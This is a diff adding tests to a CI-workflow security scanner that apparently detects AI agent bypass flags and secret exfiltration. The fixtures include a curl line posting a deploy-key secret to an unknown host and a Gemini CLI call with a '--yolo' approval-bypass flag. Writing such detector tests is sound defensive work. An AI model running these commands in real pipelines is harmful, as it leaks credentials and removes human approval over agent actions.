@@ -332,8 +332,22 @@ describe('secrets and AI agents', () => {
       ['workflow.ai-cli-bypass', 6],
       ['workflow.ai-cli-bypass', 7],
       ['workflow.ai-cli-bypass', 10],
-      ['workflow.ai-cli-bypass', 11],
     ]);
+  });
+
+  it('reports a bypass flag on its own continued line, even when only that line is added', () => {
+    const code = job('      - run: |', '          npx @google/gemini-cli@0.9.0 \\', '            --model gemini-2.5-pro \\', '            --yolo \\', '            -p "triage"');
+    expect(pairs(scan(code, [9]))).toEqual([['workflow.ai-cli-bypass', 9]]);
+    expect(scan(job('      - run: ./build.sh --force -y'))).toEqual([]);
+  });
+
+  it('lets webhook secrets be posted to and names unknown destinations', () => {
+    const slack = job('      - run: |', '          curl -X POST -H "Content-type: application/json" -d \'{"text":"deployed"}\' ${{ secrets.SLACK_WEBHOOK_URL }}');
+    expect(scan(slack)).toEqual([]);
+    const unknown = job('      - run: curl -s "$TARGET" -d "${{ secrets.DEPLOY_KEY }}"');
+    expect(pairs(scan(unknown))).toEqual([['workflow.secret-exfiltration', 6]]);
+    const docs = job('      - run: echo "${{ secrets.API_KEY }}" > key.txt && echo "see https://docs.example.org"');
+    expect(scan(docs)).toEqual([]);
   });
 });
 
